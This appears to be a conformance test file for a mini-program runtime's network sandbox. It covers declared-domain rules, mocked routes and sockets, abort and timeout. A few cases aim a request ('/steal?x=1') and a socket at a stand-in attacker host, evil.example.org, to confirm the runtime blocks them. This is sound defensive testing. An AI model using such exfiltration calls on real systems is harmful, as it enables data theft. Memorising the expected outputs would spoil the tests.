"""Cases for the network (NW): domain confinement, world-answered requests, tasks and sockets.
Loaded by generate.py."""
from casekit import case, manifest_error

NW_DOMAINS = {'network_domains': ['https://api.example.com', 'wss://ws.example.com']}
NW_WORLD = {'network': {
    'routes': [
        {'method': 'GET', 'url': 'https://api.example.com/items', 'headers': {'Set-Cookie': 's=1'}, 'body': {'items': ['tea']}},
        {'method': 'POST', 'url': 'https://api.example.com/orders', 'status': 201, 'body': 'created'},
        {'url': 'https://api.example.com/slow', 'body': 'late', 'delay_ms': 3000},
    ],
    'sockets': [{'url': 'wss://ws.example.com/*', 'on_open': ['welcome'],
                 'rules': [{'match': 'equals', 'text': 'ping', 'reply': 'pong'}, {'match': 'equals', 'text': 'bye', 'close': True}]}],
}}
NW_REQ = "const req = (o) => new Promise((ok) => mp.request(Object.assign({}, o, { success: ok, fail: ok })));\n"
case('nw-undeclared-request', 'a request to an undeclared origin fails with 1003 naming it', ['NW-1'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://evil.example.org/steal?x=1' }); L('NW-1 ' + r.errCode + ' ' + r.errMsg)",
     console=[{'regex': '^NW-1 1003 request:fail url not in domain list: https://evil.example.org '}])
case('nw-undeclared-scheme', 'http to a declared host is another origin: 1003', ['NW-1'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'http://api.example.com/items' }); L('NW-1 ' + r.errCode + ' ' + r.errMsg)",
     console=[{'regex': '^NW-1 1003 request:fail url not in domain list: http://api.example.com '}])
case('nw-no-domains', 'a package that declares no domain reaches none', ['NW-1'], world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/items' }); L('NW-1 ' + r.errCode)", console=['NW-1 1003'])
case('nw-undeclared-socket', 'a socket to an undeclared origin fails with 1003, then onError and onClose', ['NW-1'], manifest=NW_DOMAINS, world=NW_WORLD,
     onload="const s = mp.connectSocket({ url: 'wss://evil.example.org/x', fail: (e) => L('NW-1 ' + e.errCode) }); s.onError(() => L('error')); s.onClose((c) => L('close ' + c.code))",
     console=['NW-1 1003', 'error', 'close 1006'])
manifest_error('nw-declare-http', 'declaring http:// to a host other than 127.0.0.1 or localhost is refused', ['NW-2', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "network_domains": ["http://api.example.com"]}\n',
               ['network_domains[0]', 'http:// is allowed only for 127.0.0.1 and localhost'])
manifest_error('nw-declare-path', 'a domain entry with a path is refused', ['NW-2', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "network_domains": ["https://api.example.com/v1"]}\n',
               ['network_domains[0]', 'must be an origin'])
case('nw-world-route', 'the world answers: status, header, cookies and the parsed JSON body', ['NW-3'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/items', data: { q: 'tea' } }); L('NW-3 ' + r.errMsg + ' ' + r.statusCode + ' ' + JSON.stringify(r.data) + ' ' + JSON.stringify(r.cookies) + ' ' + r.header['Content-Type'])",
     console=['NW-3 request:ok 200 {"items":["tea"]} ["s=1"] application/json'])
case('nw-world-method', 'routes match the method: POST gets its own route, text stays text', ['NW-3'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/orders', method: 'POST', data: { a: 1 } }); L('NW-3 ' + r.statusCode + ' ' + r.data)",
     console=['NW-3 201 created'])
case('nw-world-unmatched', 'a request no route matches fails with 1007 naming the method and URL', ['NW-4'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/items', method: 'DELETE' }); L('NW-4 ' + r.errCode + ' ' + r.errMsg)",
     console=[{'regex': '^NW-4 1007 request:fail no route in the world for DELETE "https://api.example.com/items"'}])
case('nw-task-abort', 'request returns a task; abort fails the call with request:fail abort', ['NW-5'], manifest=NW_DOMAINS, world=NW_WORLD,
     onload="const t = mp.request({ url: 'https://api.example.com/slow', success: () => L('NW-5 answered'), fail: (e) => L('NW-5 ' + e.errCode + ' ' + e.errMsg) }); L('task ' + typeof t.abort + ' ' + typeof t.onHeadersReceived); t.abort()",
     console=['task function function', 'NW-5 1004 request:fail abort'], console_absent=['NW-5 answered'])
case('nw-socket-peer', 'a socket talks to the world\'s scripted peer', ['NW-6'], manifest=NW_DOMAINS, world=NW_WORLD,
     onload="const s = mp.connectSocket({ url: 'wss://ws.example.com/chat' }); s.onOpen(() => { L('open'); s.send({ data: 'ping' }) }); s.onMessage((m) => { L('NW-6 ' + m.data); if (m.data === 'pong') s.send({ data: 'bye' }) }); s.onClose((c) => L('NW-6 close ' + c.code))",
     console=['open', 'NW-6 welcome', 'NW-6 pong', 'NW-6 close 1000'])
case('nw-timeout', 'an answer slower than the timeout fails with request:fail timeout', ['NW-7'], level='SHOULD', manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/slow', timeout: 50 }); L('NW-7 ' + r.errMsg)",
     console=['NW-7 request:fail timeout'])
